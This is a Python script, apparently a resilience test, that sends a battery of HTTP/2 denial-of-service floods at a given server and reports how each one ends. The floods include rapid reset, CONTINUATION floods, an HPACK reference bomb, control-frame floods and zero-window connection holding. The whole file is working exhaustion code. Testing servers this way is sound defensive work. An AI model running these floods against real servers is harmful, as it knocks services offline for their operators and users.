"""What a client of HTTP/2 may do to exhaust a server.

`http2_floods.py ADDRESS HOST NAME...` does each of them as hard as it can, and writes a line
`NAME OUTCOME`: `goaway ERROR`, `closed`, or what came of the last stream. A flood that nobody
ends has an end of its own.
"""

import struct
import sys
import time

from http2 import (
    ACK, CONTINUATION, DATA, END_STREAM, HEADERS, HELLO, PADDED, PING, PRIORITY,
    SETTINGS,
    Connection, block, data, frame, headers, request, reset, setting, window,
)  # fmt: skip

ADDRESS, HOST = sys.argv[1:3]
MANY = 100_000
# What the ends of all connections that are held may take.
LONG = 25
# Bytes that are sent before the next look at what came back.
PIECE = 1 << 16
FLOODS = {}


def flood(function):
    FLOODS[function.__name__] = function
    return function


def get(stream=1, path="/", end=True):
    return headers(request(HOST, path), stream, end)


def post(stream=1, path="/body"):
    return headers(request(HOST, path, "POST"), stream, end=False)


def send(frames, begin=b"", stream=1):
    """Sends `begin` and then `frames`, as long as they are taken. What came of it."""
    connection = Connection(ADDRESS)
    connection.send(HELLO + begin)
    buffer = bytearray()
    for one in frames:
        buffer += one
        if len(buffer) >= PIECE:
            if not connection.send(buffer) or connection.goaway:
                buffer.clear()
                break
            buffer.clear()
    connection.send(buffer)
    return connection.outcome(stream)


def many(one, begin=b""):
    return send((one for _ in range(MANY)), begin)


@flood
def rapid_reset():
    return send(get(stream) + reset(stream) for stream in range(1, 2 * MANY, 2))


@flood
def rapid_reset_by_fault():
    """The server is made to reset the streams (CVE-2025-8671)."""
    return send(get(stream) + window(0, stream) for stream in range(1, 2 * MANY, 2))


@flood
def refused_streams():
    """More than may be open at once, again and again."""
    return send(post(stream, "/slow?ms=1000") for stream in range(1, 2 * MANY, 2))


@flood
def malformed_requests():
    return send(headers([(":path", "")], stream) for stream in range(1, 2 * MANY, 2))


@flood
def continuation():
    return many(frame(CONTINUATION, 0, 1, block([("x", "x" * 1000)])), begin=open_block())


@flood
def empty_continuation():
    return many(frame(CONTINUATION, 0, 1), begin=open_block())


def open_block():
    return frame(HEADERS, END_STREAM, 1, block(request(HOST)))


@flood
def empty_data():
    return many(data(b"", end=False), begin=post())


@flood
def padded_data():
    return many(frame(DATA, PADDED, 1, b"\0"), begin=post())


@flood
def settings():
    return many(frame(SETTINGS, 0, 0))


@flood
def long_settings():
    return many(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2000))


@flood
def ping():
    return many(frame(PING, 0, 0, bytes(8)))


@flood
def some_pings():
    """No flood where nobody says so."""
    return send([frame(PING, 0, 0, bytes(8))] * 200, begin=get())


@flood
def answers_to_no_ping():
    return many(frame(PING, ACK, 0, bytes(8)))


@flood
def answers_to_no_settings():
    return many(frame(SETTINGS, ACK, 0))


@flood
def priority():
    return many(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 0)), begin=get())


@flood
def unknown_frames():
    return many(frame(99, 0, 0, bytes(8)))


@flood
def window_updates():
    return many(window(1), begin=get())


@flood
def window_updates_of_a_stream():
    return many(window(1, 1), begin=post())


@flood
def tables():
    """The size of HPACK's table, changed and changed back in each block."""
    change = b"\x20\x3f\xe1\x1f"
    one = change + block(request(HOST))
    return send(frame(HEADERS, 5, n, one) + reset(n) for n in range(1, 2 * MANY, 2))


@flood
def bomb():
    """A field of 4,000 bytes, kept, and 16,000 references to it in each of 100 requests."""
    connection = Connection(ADDRESS)
    length = struct.pack(">B", 127) + bytes([(4000 - 127) % 128 + 128, (4000 - 127) // 128])
    kept = b"\x40\x01x" + length + b"x" * 4000
    connection.send(HELLO + frame(HEADERS, 5, 1, block(request(HOST)) + kept))
    for stream in range(3, 201, 2):
        refer = block(request(HOST)) + b"\xbe" * 16_000
        connection.send(frame(HEADERS, 5, stream, refer))
    return connection.outcome(199)


@flood
def tiny_data():
    """A byte in a frame, as many as windows allow, for an instance that is not awake yet."""
    connection = Connection(ADDRESS)
    connection.send(HELLO)
    streams = range(1, 32, 2)
    for stream in streams:
        connection.send(post(stream) + data(b"x", stream, end=False) * 65_000)
    for stream in streams:
        connection.send(data(b"", stream))
    connection.until(lambda: all(stream in connection.ended for stream in streams), LONG)
    return connection.outcome(31)


def hold(window_size, connections=10):
    """Answers of 10 MB, 100 on each of some connections, which nobody takes."""
    held = [Connection(ADDRESS) for _ in range(connections)]
    for connection in held:
        connection.send(HELLO + setting(4, window_size))
        path = "/stream?chunks=100&bytes=100000"
        connection.send(b"".join(get(2 * n + 1, path) for n in range(100)))
    end, outcomes = time.monotonic() + LONG, set()
    for connection in held:
        connection.until(lambda: connection.goaway, max(0.1, end - time.monotonic()))
        outcomes.add("closed" if connection.closed else connection.goaway or "endured")
    return " and ".join(sorted(outcomes))


@flood
def closed_windows():
    return hold(0)


@flood
def small_windows():
    return hold(1)


def main():
    for name in sys.argv[3:]:
        print(name, FLOODS[name](), flush=True)


main()
